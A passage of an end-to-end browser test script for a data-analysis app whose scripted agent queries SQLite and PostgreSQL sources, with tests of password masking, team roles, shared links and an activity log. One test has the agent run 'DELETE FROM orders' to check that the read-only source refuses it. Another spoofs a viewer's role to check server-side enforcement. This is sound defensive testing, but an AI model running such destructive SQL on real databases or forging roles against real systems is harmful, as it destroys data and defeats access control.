      await page.evaluate(() => localStorage.removeItem('wb.theme'));
      await page.emulateMedia({ colorScheme: 'dark' });
      await page.locator('html.dark').waitFor({ state: 'attached' });
      await chart.evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await settle(page, 500);
      await shot('63-phone-chart-dark-system');
      await page.setViewportSize(wide);
      await chart.locator('.modebar').first().waitFor({ state: 'attached' });
      const wideHint = await composer().getAttribute('placeholder');
      expect(wideHint.includes('Enter to send'), `the Enter hint on a computer: ${wideHint}`);
      await settle(page, 500);
      await shot('64-wide-chart-dark-system');
      await page.emulateMedia({ colorScheme: 'light' });
      await page.waitForFunction(() => !document.documentElement.classList.contains('dark'));
      await settle(page, 300);
      await shot('64b-wide-chart-light-system');
    });

    await test('an empty session shows the datasets, explains pinning, suggests questions from the columns, and takes a dropped file', async () => {
      await page.setViewportSize({ width: 1440, height: 900 });
      await newSession();
      const start = page.getByTestId('session-start');
      const datasets = start.getByTestId('start-datasets');
      await datasets.locator('[data-file="sales.csv"]').waitFor();
      const listed = await datasets.getByRole('listitem').evaluateAll((els) => els.map((e) => e.dataset.file));
      const project = JSON.parse(await apiGet(`/api/v1/projects/${page.url().split('/projects/')[1].split('/')[0]}/files?limit=500`));
      expect(listed.length === project.total, `every file of the project is listed (${listed.length} of ${project.total})`);
      await start.getByTestId('pin-explained').filter({ hasText: '“Pin files” under the question box' }).waitFor();
      await datasets.getByRole('button', { name: 'Pin sales.csv' }).click();
      await datasets.locator('[data-file="sales.csv"][data-pinned="true"]').waitFor();
      await page.getByRole('button', { name: /1 pinned/ }).waitFor();
      // The pinned file's columns (region, units, price) write the first question.
      const offered = start.getByTestId('suggestions').getByRole('button');
      await offered.filter({ hasText: 'What is the total units by region in sales.csv?' }).waitFor();
      const count = await offered.count();
      expect(count >= 3 && count <= 4, `3 or 4 questions offered (${count})`);
      await settle(page, 300);
      await shot('65-empty-session');
      await chooseTheme(page, 'Dark');
      await settle(page, 300);
      await shot('65b-empty-session-dark');
      await page.setViewportSize({ width: 390, height: 844 });
      await settle(page, 300);
      await shot('65c-empty-session-narrow-dark');
      await page.setViewportSize({ width: 1440, height: 900 });
      await chooseTheme(page, 'Light');
      await page.setViewportSize({ width: 390, height: 844 });
      await settle(page, 300);
      await shot('65d-empty-session-narrow-light');
      await page.setViewportSize({ width: 1440, height: 900 });

      await offered.filter({ hasText: 'What is the total units by region in sales.csv?' }).click();
      const typed = await composer().inputValue();
      expect(typed === 'What is the total units by region in sales.csv?', `the suggestion fills the box: ${JSON.stringify(typed)}`);

      // A file dropped on the chat joins the project's datasets.
      const dt = await page.evaluateHandle(() => {
        const d = new DataTransfer();
        d.items.add(new File(['city,visits\nLyon,3\nMetz,5\n'], 'dropped visits.csv', { type: 'text/csv' }));
        return d;
      });
      await page.getByTestId('session-chat').dispatchEvent('drop', { dataTransfer: dt });
      await datasets.locator('[data-file="dropped visits.csv"]').waitFor();
      const after = JSON.parse(await apiGet(`/api/v1/projects/${page.url().split('/projects/')[1].split('/')[0]}/files?limit=500`));
      expect(after.items.some((f) => f.name === 'dropped visits.csv'), 'the dropped file is in the project');
      await settle(page, 300);
      await shot('66-empty-session-dropped');
    });

    // The shop database of the data-sources test: 12 orders in three regions, 10.5 × id each.
    const SHOP_DB = path.join(sourcesDir, 'shop.db');
    const shopPython = (code) => {
      const out = spawnSync('uv', ['run', 'python', '-c', `import sqlite3\ndb = sqlite3.connect(${JSON.stringify(SHOP_DB)})\n${code}`], { cwd: BACKEND });
      if (out.status !== 0) throw new Error(`the shop database: ${out.stderr}`);
      return String(out.stdout).trim();
    };
    // Toasts lie over the bottom right of the page: closed before a screenshot.
    const closeToasts = async () => {
      for (const close of await page.locator('[data-sonner-toast] [data-close-button]').all()) await close.click().catch(() => undefined);
      await page.locator('[data-sonner-toast]').first().waitFor({ state: 'detached' }).catch(() => undefined);
    };

    await test('data sources: add a SQLite file, see its tables, describe a column; a password never shows; a bad source says why', async () => {
      shopPython(
        [
          "db.execute('CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT NOT NULL, region TEXT)')",
          "db.execute('CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INTEGER REFERENCES customers(id), region TEXT NOT NULL, amount REAL NOT NULL)')",
          "db.executemany('INSERT INTO customers VALUES (?, ?, ?)', [(i, f'customer {i}', ['east', 'north', 'south'][i % 3]) for i in range(1, 7)])",
          "db.executemany('INSERT INTO orders VALUES (?, ?, ?, ?)', [(i, i % 6 + 1, ['east', 'north', 'south'][i % 3], 10.5 * i) for i in range(1, 13)])",
          'db.commit()',
        ].join('\n'),
      );
      await page.setViewportSize(wide);
      await page.getByRole('main').locator('header').getByRole('link', { name: 'Sales 2026' }).click();
      const panel = page.getByTestId('sources-panel');
      await panel.getByText('No data sources yet.').waitFor();
      await panel.getByRole('button', { name: 'Add source' }).click();
      const dialog = page.getByRole('dialog');
      await dialog.getByLabel('Name').fill('shop');
      await dialog.getByLabel('URL').fill(`sqlite:///${SHOP_DB}`);
      await dialog.getByLabel('Description').fill('Orders and customers of the web shop');
      await shot('70-source-add');
      await dialog.getByRole('button', { name: 'Add and check' }).click();
      await page.getByText('shop was added and is ready.').waitFor();
      const shop = panel.locator('[data-testid=source-row][data-source=shop]');
      await shop.locator('[data-testid=source-status][data-status=ready]').waitFor();
      expect((await shop.getByTestId('source-url').innerText()) === `sqlite:///${SHOP_DB}`, 'the URL is shown');
      const facts = await shop.getByTestId('source-facts').innerText();
      expect(facts.startsWith('read-only file · 2 tables · checked '), `how it is read-only, its tables, when checked: ${facts}`);
      await shop.getByTestId('source-status-detail').filter({ hasText: '2 tables' }).waitFor();
      // Added, it opens on its tables, with their row estimates.
      const orders = shop.locator('[data-testid=schema-table][data-table="main.orders"]');
      await orders.waitFor();
      expect((await shop.getByTestId('schema-table').count()) === 2, 'both tables are listed');

      // The data dictionary: a column described in place, kept by the server.
      await orders.getByRole('button', { name: 'Show the columns of main.orders' }).click();
      const columns = await orders.getByTestId('schema-column').evaluateAll((els) => els.map((e) => e.dataset.column));
      expect(JSON.stringify(columns) === '["id","customer_id","region","amount"]', `the columns of orders: ${columns}`);
      await orders.getByRole('button', { name: 'Describe main.orders.region' }).click();
      const box = orders.getByLabel('Description of main.orders.region');
      await box.fill('Sales region: north, south or east');
      await box.press('Enter');
      await orders.getByRole('button', { name: 'Edit the description of main.orders.region' }).waitFor();
      const sources = JSON.parse(await apiGet(`/api/v1/projects/${page.url().split('/projects/')[1].split('/')[0]}/sources`));
      const schema = JSON.parse(await apiGet(`/api/v1/sources/${sources.items[0].id}/schema`));
      const region = schema.tables.find((t) => t.name === 'orders').columns.find((c) => c.name === 'region');
      expect(region.description === 'Sales region: north, south or east', `the description is kept: ${JSON.stringify(region)}`);
      await page.getByTestId('sources-panel').evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await closeToasts();
      await shot('71-sources-panel');
      await orders.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await shot('72-schema-browser');

      // Checked again: a spinner, then the sentence.
      await shop.getByRole('button', { name: 'Check shop again' }).click();
      await page.getByText('shop is ready.').waitFor();

      // A password typed into the URL goes to its own field and is sent apart; the server's
      // check of a closed port says it refused the connection, and nothing shows the password.
      await panel.getByRole('button', { name: 'Add source' }).click();
      await dialog.getByLabel('Name').fill('crm');
      await dialog.getByLabel('URL').fill('postgresql://ana:s3cret-pw@127.0.0.1:1/crm');
      await dialog.getByLabel('Description').click();
      expect((await dialog.getByLabel('URL').inputValue()) === 'postgresql://ana@127.0.0.1:1/crm', 'the password left the URL');
      expect((await dialog.getByLabel('Password').inputValue()) === 's3cret-pw', 'the password is in its own field');
      await dialog.getByRole('button', { name: 'Add and check' }).click();
      await page.getByText('crm was added, but could not be used.').waitFor();
      const crm = panel.locator('[data-testid=source-row][data-source=crm]');
      await crm.locator('[data-testid=source-status][data-status=failed]').waitFor();
      await crm.getByTestId('source-status-detail').filter({ hasText: '127.0.0.1:1 refused the connection.' }).waitFor();
      expect((await crm.getByTestId('source-url').innerText()) === 'postgresql://ana:***@127.0.0.1:1/crm', 'the password is masked');
      expect(!(await page.content()).includes('s3cret-pw'), 'the password is nowhere in the page');
      await panel.getByRole('button', { name: 'Add source' }).click();
      expect((await dialog.getByLabel('Password').inputValue()) === '', 'a new form starts empty');
      await dialog.getByRole('button', { name: 'Cancel' }).click();
      // A name taken: the server's sentence in the form.
      await panel.getByRole('button', { name: 'Edit crm' }).click();
      await dialog.getByLabel('Name').fill('shop');
      await dialog.getByRole('button', { name: 'Save' }).click();
      await dialog.getByRole('alert').filter({ hasText: "already has a source named 'shop'" }).waitFor();
      await dialog.getByRole('button', { name: 'Cancel' }).click();
      await closeToasts();
      await chooseTheme(page, 'Dark');
      await page.getByTestId('sources-panel').evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('71b-sources-panel-dark');
      await page.setViewportSize(narrow);
      await page.getByTestId('sources-panel').evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('71c-sources-panel-narrow-dark');
      await panel.getByRole('button', { name: 'Add source' }).click();
      await dialog.getByRole('tab', { name: 'Fields' }).click();
      await settle(page, 300);
      await shot('70b-source-add-fields-narrow-dark');
      await dialog.getByRole('button', { name: 'Cancel' }).click();
      await page.setViewportSize(wide);
      await chooseTheme(page, 'Light');
      await page.setViewportSize(narrow);
      // Adding crm opened it in shop's place: shop again, on its described column.
      await shop.getByRole('button', { name: 'Show the tables of shop' }).click();
      await orders.getByRole('button', { name: 'Show the columns of main.orders' }).click();
      await orders.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('72b-schema-browser-narrow');
      await page.setViewportSize(wide);

      // Deleted after a confirmation that names it.
      await crm.getByRole('button', { name: 'Delete crm' }).click();
      await dialog.getByText('“crm” will be removed from this project').waitFor();
      await dialog.getByRole('button', { name: 'Delete' }).click();
      await crm.waitFor({ state: 'detached' });
    });

    await test("the queries a step ran show under it, live and from history; a refused statement with its error, the table intact", async () => {
      const total = 'SELECT region, SUM(amount) AS total FROM orders GROUP BY region ORDER BY region';
      await page.getByRole('main').getByRole('button', { name: 'New session' }).click();
      await page.waitForURL('**/sessions/**');
      await page.getByText('What would you like to know?').waitFor();
      await script(
        [
          { thought: 'Total the orders by region in the shop database.', code: `df = sql("${total}", source="shop")\nprint(df)` },
          { final: 'East sold the most: 315.0.' },
        ],
        0.01,
      );
      await ask('What are the order totals by region in the shop database?');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'East sold the most' }).waitFor({ timeout: 40_000 });
      const querySeen = async () => {
        await openSteps();
        const card = lastRun().locator('[data-testid=step-card][data-step="1"]');
        await openStep(card);
        const query = card.getByTestId('step-query');
        await query.waitFor();
        expect((await query.count()) === 1, 'one query under the step');
        expect((await query.getByTestId('query-source').innerText()) === 'shop', 'its source');
        expect((await query.getByTestId('query-sql').innerText()) === total, 'its SQL');
        const figures = await query.getByTestId('query-figures').innerText();
        expect(/^3 rows · \d+ ms$/.test(figures), `its rows and duration: ${figures}`);
        return card;
      };
      const card = await querySeen();
      await card.getByTestId('step-output').filter({ hasText: 'north' }).waitFor();
      await card.getByTestId('step-queries').evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await settle(page, 300);
      await shot('73-step-queries');
      await page.reload();
      await querySeen();

      await script(
        [
          { thought: 'Remove the orders, as asked.', code: 'sql("DELETE FROM orders")' },
          { final: 'The shop database is read-only: nothing was deleted.' },
        ],
        0.01,
      );
      await ask('Delete every order in the shop database.');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'nothing was deleted' }).waitFor({ timeout: 40_000 });
      await openSteps();
      const refused = lastRun().locator('[data-testid=step-card][data-step="1"]');
      await openStep(refused);
      const query = refused.getByTestId('step-query');
      expect((await query.getByTestId('query-sql').innerText()) === 'DELETE FROM orders', 'the refused SQL');
      const error = await query.getByTestId('query-error').innerText();
      expect(error.includes('DELETE'), `the query's error: ${error}`);
      expect((await query.getByTestId('query-figures').innerText()).startsWith('failed · '), 'said failed');
      expect(shopPython('print(db.execute("SELECT COUNT(*) FROM orders").fetchone()[0])') === '12', 'the orders are all there');
      await refused.evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await settle(page, 300);
      await shot('73b-step-query-refused');
      await chooseTheme(page, 'Dark');
      await page.setViewportSize(narrow);
      await lastRun().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await refused.getByTestId('step-queries').evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await settle(page, 300);
      await shot('73c-step-query-refused-narrow-dark');
      await page.setViewportSize(wide);
      await chooseTheme(page, 'Light');
      await page.setViewportSize(narrow);
      const runs = page.getByTestId('run');
      const first = runs.nth((await runs.count()) - 2);
      await openSteps(first);
      await openStep(first.locator('[data-testid=step-card][data-step="1"]'));
      await first.getByTestId('step-queries').evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await settle(page, 300);
      await shot('73d-step-queries-narrow');
      await page.setViewportSize(wide);
    });

    // A warehouse on this machine's PostgreSQL: a database of its own with a role that can
    // only read (the password never in a URL), dropped after.
    const PG_DB = 'wb_e2e_warehouse';
    const PG_READER = 'wb_e2e_reader';
    const PG_PASSWORD = 'e2e-reader-Secret-7c1';
    const psql = (database, sql) => {
      const out = spawnSync('psql', ['-h', '127.0.0.1', '-U', 'postgres', '-d', database, '-v', 'ON_ERROR_STOP=1', '-qAt', '-c', sql]);
      if (out.status !== 0) throw new Error(`psql: ${out.stderr}`);
      return String(out.stdout).trim();
    };
    const dropWarehouse = () => {
      psql('postgres', `DROP DATABASE IF EXISTS ${PG_DB} WITH (FORCE)`);
      psql('postgres', `DROP ROLE IF EXISTS ${PG_READER}`);
    };

    await test('a PostgreSQL database: added with its password apart, read through a read-only role, answered in the database with the query shown', async () => {
      dropWarehouse();
      psql('postgres', `CREATE DATABASE ${PG_DB}`);
      psql('postgres', `CREATE ROLE ${PG_READER} LOGIN PASSWORD '${PG_PASSWORD}'`);
      psql(PG_DB, [
        'CREATE TABLE shipments (id int PRIMARY KEY, carrier text NOT NULL, weight_kg numeric(8,2) NOT NULL)',
        "INSERT INTO shipments SELECT i, (ARRAY['DHL','UPS','FedEx'])[i % 3 + 1], i * 1.25 FROM generate_series(1, 300) AS i",
        `GRANT SELECT ON shipments TO ${PG_READER}`,
      ].join('; '));
      try {
        await page.setViewportSize(wide);
        await page.getByRole('main').locator('header').getByRole('link', { name: 'Sales 2026' }).click();
        const panel = page.getByTestId('sources-panel');
        await panel.getByRole('button', { name: 'Add source' }).click();
        const dialog = page.getByRole('dialog');
        await dialog.getByLabel('Name').fill('warehouse');
        await dialog.getByLabel('URL').fill(`postgresql://${PG_READER}@127.0.0.1:5432/${PG_DB}`);
        await dialog.getByLabel('Password').fill(PG_PASSWORD);
        await dialog.getByRole('button', { name: 'Add and check' }).click();
        await page.getByText('warehouse was added and is ready.').waitFor();
        const row = panel.locator('[data-testid=source-row][data-source=warehouse]');
        await row.locator('[data-testid=source-status][data-status=ready]').waitFor();
        const facts = await row.getByTestId('source-facts').innerText();
        expect(facts.startsWith('read-only role · 1 table · checked '), `read through a read-only role: ${facts}`);
        const shown = await row.getByTestId('source-url').innerText();
        expect(!shown.includes(PG_PASSWORD), `the URL shows no password: ${shown}`);
        expect(!(await page.content()).includes(PG_PASSWORD), 'the password is nowhere in the page');

        const heaviest = 'SELECT carrier, SUM(weight_kg) AS kg FROM shipments GROUP BY carrier ORDER BY kg DESC';
        await page.getByRole('main').getByRole('button', { name: 'New session' }).click();
        await page.waitForURL('**/sessions/**');
        await page.getByText('What would you like to know?').waitFor();
        await script(
          [
            { thought: 'Sum the weights by carrier in the warehouse database.', code: `df = sql("${heaviest}", source="warehouse")\nprint(df.to_string(index=False))` },
            { final: 'DHL carried the most: 18,937.5 kg.' },
          ],
          0.01,
        );
        await ask('Which carrier carried the most weight?');
        await lastRun().getByTestId('final-answer').filter({ hasText: 'DHL carried the most' }).waitFor({ timeout: 40_000 });
        await openSteps();
        const card = lastRun().locator('[data-testid=step-card][data-step="1"]');
        await openStep(card);
        const query = card.getByTestId('step-query');
        await query.waitFor();
        expect((await query.getByTestId('query-source').innerText()) === 'warehouse', 'its source');
        expect((await query.getByTestId('query-sql').innerText()) === heaviest, 'its SQL');
        const figures = await query.getByTestId('query-figures').innerText();
        expect(/^3 rows · \d+ ms$/.test(figures), `its rows and duration: ${figures}`);
        // What the database computed, heaviest first, as psql computes it.
        const sums = psql(PG_DB, heaviest).split('\n').map((line) => line.split('|'));
        const printed = (await card.getByTestId('step-output').innerText()).trim().split('\n').slice(1).map((line) => line.trim().split(/\s+/));
        expect(
          JSON.stringify(printed.map(([c, kg]) => [c, Number(kg)])) === JSON.stringify(sums.map(([c, kg]) => [c, Number(kg)])),
          `the step printed the database's sums ${JSON.stringify(sums)}: ${JSON.stringify(printed)}`,
        );
        await card.getByTestId('step-queries').evaluate((el) => el.scrollIntoView({ block: 'center' }));
        await closeToasts();
        await settle(page, 300);
        await shot('74-postgresql-source-answer');
      } finally {
        dropWarehouse();
      }
    });

    await test('a team: the owner adds an editor and a viewer; the viewer follows a run live, read-only; a shared link opens without login until revoked; the owner reads the activity', async () => {
      const EDITOR = 'eve.editor@example.com';
      const VIEWER = 'vic.viewer@example.com';
      const TEAM_PASSWORD = 'team-password-1';
      const VIEWER_STOP = "Viewers can't stop a run; ask an owner to make you an editor.";
      // The API as the page's signed-in user.
      const api = (p, method, url, body) =>
        p.evaluate(
          async ({ method, url, body }) => {
            const token = JSON.parse(localStorage.getItem('wb.auth')).token;
            const r = await fetch(url, {
              method,
              headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
              body: body ? JSON.stringify(body) : undefined,
            });
            return { status: r.status, body: r.status === 204 ? null : await r.json() };
          },
          { method, url, body },
        );
      const tooltip = async (locator, why, what) => {
        expect(await locator.isDisabled(), `${what} is disabled`);
        const title = await locator.getAttribute('title');
        expect(title === why, `${what} says why: ${title}`);
      };
      const contexts = [];
      try {
        // The administrator (the owner here) makes the two accounts.
        for (const email of [EDITOR, VIEWER]) {
          const made = await api(page, 'POST', '/api/v1/users', { email, password: TEAM_PASSWORD });
          expect(made.status === 201, `created ${email}: ${JSON.stringify(made)}`);
        }
        const project = (await api(page, 'POST', '/api/v1/projects', { name: 'Team sales' })).body;
        const projectUrl = `${base}/projects/${project.id}`;

        // The owner adds them in the Members dialog.
        await page.goto(projectUrl);
        await page.getByTestId('project-title').filter({ hasText: 'Team sales' }).waitFor();
        await page.getByRole('button', { name: 'Members' }).click();
        const members = page.getByRole('dialog', { name: 'Members' });
        for (const [email, role] of [
          [EDITOR, 'editor'],
          [VIEWER, 'viewer'],
        ]) {
          await members.getByLabel('Add a member').fill(email);
          await members.getByLabel('Role of the new member').selectOption(role);
          await members.getByRole('button', { name: 'Add' }).click();
          await members.getByTestId('members-notice').filter({ hasText: `${email} is now ${role === 'editor' ? 'an' : 'a'} ${role}.` }).waitFor();
        }
        const memberRow = (email) => members.locator(`[data-testid=member-row][data-email="${email}"]`);
        await memberRow(VIEWER).getByTestId('member-usage').filter({ hasText: 'No questions yet' }).waitFor();
        await page.keyboard.press('Escape');

        const signedIn = async (label, email) => {
          const { ctx, p } = await otherBrowser(label);
          contexts.push(ctx);
          await p.goto(`${base}/login`);
          await signInAs(p, email, TEAM_PASSWORD);
          await p.getByRole('heading', { name: 'Projects' }).waitFor();
          return p;
        };
        // The editor uploads and asks; the question takes a few seconds.
        const ep = await signedIn('editor', EDITOR);
        await ep.getByRole('navigation').locator('[data-testid=role-badge][data-role=editor]').waitFor();
        await ep.goto(projectUrl);
        await ep.getByTestId('project-role').filter({ hasText: 'You are an editor' }).waitFor();
        await ep.getByTestId('file-input').setInputFiles({ name: 'sales.csv', mimeType: 'text/csv', buffer: Buffer.from(salesCsv()) });
        await ep.locator('[data-testid=file-row][data-file="sales.csv"]').waitFor();
        await ep.getByRole('main').getByRole('button', { name: 'New session' }).click();
        await ep.waitForURL('**/sessions/**');
        await ep.getByText('What would you like to know?').waitFor();
        const sessionUrl = ep.url();
        await script(
          [
            {
              thought: 'Sum the units by region, then look again slowly.',
              code: 'import time\nimport pandas as pd\ndf = pd.read_csv("sales.csv")\nprint(df.groupby("region")["units"].sum())\ntime.sleep(6)',
            },
            { final: 'Region **r0** sold the most units, the team hears.' },
          ],
          0.02,
        );
        const editorBox = ep.getByRole('textbox', { name: 'Ask a question about your data' });
        await editorBox.fill('Which region sells the most units?');
        await editorBox.press('Enter');
        await ep.locator('[data-testid=run][data-status=running]').waitFor({ timeout: 30_000 });
        // Its first question names the session, for everyone.
        await ep.getByTestId('session-title').filter({ hasText: 'Which region sells the most units?' }).waitFor();

        // The viewer opens the session mid-run: it streams, with no composer and nothing to stop.
        const vp = await signedIn('viewer', VIEWER);
        await vp.getByRole('navigation').locator('[data-testid=role-badge][data-role=viewer]').waitFor();
        await vp.goto(sessionUrl);
        const viewerRun = vp.locator('[data-testid=run]').last();
        await viewerRun.getByTestId('code').filter({ hasText: 'groupby' }).first().waitFor({ timeout: 30_000 });
        expect((await viewerRun.getAttribute('data-status')) === 'running', 'the viewer sees the run while it goes');
        await viewerRun.getByTestId('run-asked-by').filter({ hasText: EDITOR }).waitFor();
        await snap(vp, path.join(SHOTS, '79-viewer-following-live.png'));
        await tooltip(viewerRun.getByRole('button', { name: 'Stop' }), VIEWER_STOP, "the viewer's Stop");
        await vp.getByTestId('viewer-note').waitFor();
        expect((await vp.getByRole('textbox', { name: 'Ask a question about your data' }).count()) === 0, 'a viewer has no question box');
        await viewerRun.getByTestId('final-answer').filter({ hasText: 'the team hears' }).waitFor({ timeout: 40_000 });
        await snap(vp, path.join(SHOTS, '80-viewer-session-wide.png'));
        await vp.setViewportSize(narrow);
        await viewerRun.getByTestId('final-answer').scrollIntoViewIfNeeded();
        await vp.getByTestId('viewer-note').waitFor();
        await snap(vp, path.join(SHOTS, '81-viewer-session-narrow.png'));
        await vp.setViewportSize(wide);
        // Every action a viewer cannot take is disabled and says why.
        expect(await vp.getByTestId('autonomy-switch').isDisabled(), 'the review switch is disabled for a viewer');
        await vp.getByRole('button', { name: 'Session actions' }).click();
        await tooltip(vp.getByRole('menuitem', { name: 'Share…' }), "Viewers can't share sessions; ask an owner to make you an editor.", 'Share…');
        await vp.getByTestId('share-blocked').waitFor();
        await vp.keyboard.press('Escape');
        await vp.getByRole('navigation').getByRole('button', { name: /^Actions for Which region/ }).click();
        await tooltip(vp.getByRole('menuitem', { name: 'Rename' }), "Viewers can't rename, delete or start sessions; ask an owner to make you an editor.", 'Rename');
        await vp.keyboard.press('Escape');
        await vp.goto(projectUrl);
        await vp.getByTestId('project-role').filter({ hasText: 'You are a viewer' }).waitFor();
        await tooltip(vp.getByRole('button', { name: 'Upload files' }), "Viewers can't upload files; ask an owner to make you an editor.", 'Upload files');

        // Forced past the UI (the page told the viewer is an editor), a question gets the server's 403 sentence, and the page reads the role again.
        // Until the question is sent, every read of the project says "editor"; from then on, the truth.
        let faking = true;
        await vp.route(`**/api/v1/projects/${project.id}`, async (route) => {
          const response = await route.fetch();
          const body = await response.json();
          await route.fulfill({ response, json: faking ? { ...body, role: 'editor' } : body }).catch(() => undefined);
        });
        // The lie ends as the question leaves (a read of the project in between, such as the live
        // stream's reconnect, still says "editor").
        await vp.route('**/api/v1/sessions/*/query', async (route) => {
          faking = false;
          await route.continue();
        });
        await vp.goto(sessionUrl);
        const forcedBox = vp.getByRole('textbox', { name: 'Ask a question about your data' });
        await forcedBox.fill('May a viewer ask?');
        await forcedBox.press('Enter');
        const refused = vp.getByTestId('query-refused').filter({ hasText: 'You are a viewer of this project' });
        await refused.waitFor();
        expect((await refused.getAttribute('data-code')) === 'forbidden_role', 'the refusal is forbidden_role');
        await vp.getByTestId('viewer-note').waitFor();
        await vp.unrouteAll({ behavior: 'ignoreErrors' });

        // The owner asks something slow in the same session; the editor, who did not ask it, stops it.
        await script([{ thought: 'A slow look.', code: 'import time\ntime.sleep(30)' }, { final: 'never' }], 0.02);
        await page.goto(sessionUrl);
        await ask('Owner asks something slow');
        await lastRun().getByTestId('code').filter({ hasText: 'time.sleep(30)' }).first().waitFor({ timeout: 30_000 });
        await ep.reload();
        const ownersRun = ep.locator('[data-testid=run]').last();
        await ownersRun.getByTestId('run-asked-by').filter({ hasText: EMAIL }).waitFor();
        await ownersRun.getByRole('button', { name: 'Stop' }).click();
        await ownersRun.getByText('Cancelled').waitFor({ timeout: 30_000 });
        await lastRun().getByText('Cancelled').waitFor({ timeout: 30_000 });

        // The Members dialog shows what each member's questions spent.
        await page.goto(projectUrl);
        await page.getByRole('button', { name: 'Members' }).click();
        await memberRow(EDITOR).getByTestId('member-usage').filter({ hasText: /^1 question · [\d,]+ tokens/ }).waitFor();
        await memberRow(VIEWER).getByTestId('member-usage').filter({ hasText: 'No questions yet' }).waitFor();
        await shot('82-members-dialog');
        await page.keyboard.press('Escape');

        // The editor shares the session; a browser with no login reads the report.
        await ep.getByRole('button', { name: 'Session actions' }).click();
        await ep.getByRole('menuitem', { name: 'Share…' }).click();
        const share = ep.getByRole('dialog', { name: 'Share a read-only report' });
        await share.getByRole('radio', { name: '7 days' }).click();
        await share.getByTestId('share-runs').waitFor();
        await snap(ep, path.join(SHOTS, '83a-share-dialog-choose.png'));
        await share.getByRole('button', { name: 'Create link' }).click();
        const link = await share.getByTestId('share-url').inputValue();
        expect(link.includes('/api/v1/shared/'), `the link: ${link}`);
        await share.getByText('This link will not be shown again').waitFor();
        await share.locator('[data-testid=share-row][data-state=active]').filter({ hasText: 'By you' }).waitFor();
        await snap(ep, path.join(SHOTS, '83b-share-dialog-link.png'));

        const anonCtx = await browser.newContext({ viewport: wide });
        contexts.push(anonCtx);
        const anon = await anonCtx.newPage();
        const anonErrors = [];
        anon.on('console', (m) => m.type() === 'error' && anonErrors.push(m.text()));
        anon.on('pageerror', (e) => anonErrors.push(e.message));
        const opened = await anon.goto(link);
        expect(opened.status() === 200, `the shared link opens (${opened.status()})`);
        await anon.getByText('sold the most units, the team hears').first().waitFor();
        expect((await anon.getByText('Owner asks something slow').count()) === 0, 'the stopped question was not chosen, and is not shown');
        await snap(anon, path.join(SHOTS, '84-shared-report-wide.png'), { fullPage: true });
        await anon.setViewportSize(narrow);
        await snap(anon, path.join(SHOTS, '85-shared-report-narrow.png'), { fullPage: true });
        expect(anonErrors.length === 0, `the shared report logs no errors: ${anonErrors.join('\n')}`);

        // Revoked, the link opens nothing.
        await anon.setViewportSize(wide);
        await share.locator('[data-testid=share-row][data-state=active]').getByRole('button', { name: 'Revoke' }).click();
        await ep.getByRole('dialog', { name: 'Revoke this link?' }).getByRole('button', { name: 'Revoke' }).click();
        await share.locator('[data-testid=share-row][data-state=revoked]').waitFor();
        const gone = await anon.goto(link);
        expect(gone.status() === 404, `a revoked link answers 404 (${gone.status()})`);
        await anon.getByText('This link does not open a report').waitFor();
        await snap(anon, path.join(SHOTS, '86-shared-link-revoked.png'));
        await ep.keyboard.press('Escape');

        // The owner reads who did what.
        await page.getByRole('link', { name: 'Activity' }).click();
        await page.waitForURL('**/activity');
        const activity = page.getByTestId('activity-log');
        const happened = async (action, text) =>
          activity.locator(`[data-testid=activity-row][data-action="${action}"]`).filter({ hasText: text }).first().waitFor();
        await happened('member.added', EDITOR);
        await happened('member.added', VIEWER);
        await happened('file.uploaded', 'sales.csv');
        await happened('run.asked', EDITOR);
        await happened('share.created', EDITOR);
        await happened('share.revoked', EDITOR);
        await shot('87-activity');
        await page.getByLabel('Show').selectOption('share.revoked');
        await activity.locator('[data-testid=activity-row]:not([data-action="share.revoked"])').first().waitFor({ state: 'detached' });
        await page.getByTestId('activity-total').filter({ hasText: /^1 event$/ }).waitFor();
        const shown = await activity.locator('[data-testid=activity-row]').evaluateAll((rows) => rows.map((r) => r.dataset.action));
        expect(shown.length > 0 && shown.every((a) => a === 'share.revoked'), `the filter shows revocations only: ${shown}`);
        // An editor may not read it.
        await ep.goto(`${projectUrl}/activity`);
        await ep.getByTestId('activity-blocked').filter({ hasText: 'Only owners can read the activity log' }).waitFor();
      } finally {
        for (const ctx of contexts) await ctx.close();
      }
    });

    await test('the theme: Dark kept across a reload, back to System which follows the system live; the current version badge whole at 390 px', async () => {
      const wide = { width: 1440, height: 900 };
      const narrow = { width: 390, height: 844 };
      const dark = () => page.evaluate(() => document.documentElement.classList.contains('dark'));
      const drawn = (isDark) => page.waitForFunction((d) => document.documentElement.classList.contains('dark') === d, isDark);
      const themeButton = page.getByRole('button', { name: /^Theme: / });
      // A project of its own with a file in two versions.
      const made = await page.evaluate(async () => {
        const token = JSON.parse(localStorage.getItem('wb.auth')).token;
        const r = await fetch('/api/v1/projects', {
          method: 'POST',
          headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
          body: JSON.stringify({ name: 'Theme and versions' }),
        });
        return r.json();
      });
      await page.setViewportSize(wide);
      await page.emulateMedia({ colorScheme: 'light' });
      await page.goto(`${base}/projects/${made.id}`);
      await page.getByTestId('project-title').filter({ hasText: 'Theme and versions' }).waitFor();
      await page.getByTestId('file-input').setInputFiles({ name: 'orders.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n') });
      const row = page.locator('[data-testid=file-row][data-file="orders.csv"]');
      await row.getByTestId('file-version').filter({ hasText: 'v1' }).waitFor();
      await page.getByTestId('file-input').setInputFiles({ name: 'orders.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n3,4\n') });
      await page.getByRole('dialog', { name: 'Replace orders.csv?' }).getByRole('button', { name: 'Upload as v2' }).click();
      await row.getByTestId('file-version').filter({ hasText: 'v2' }).waitFor();

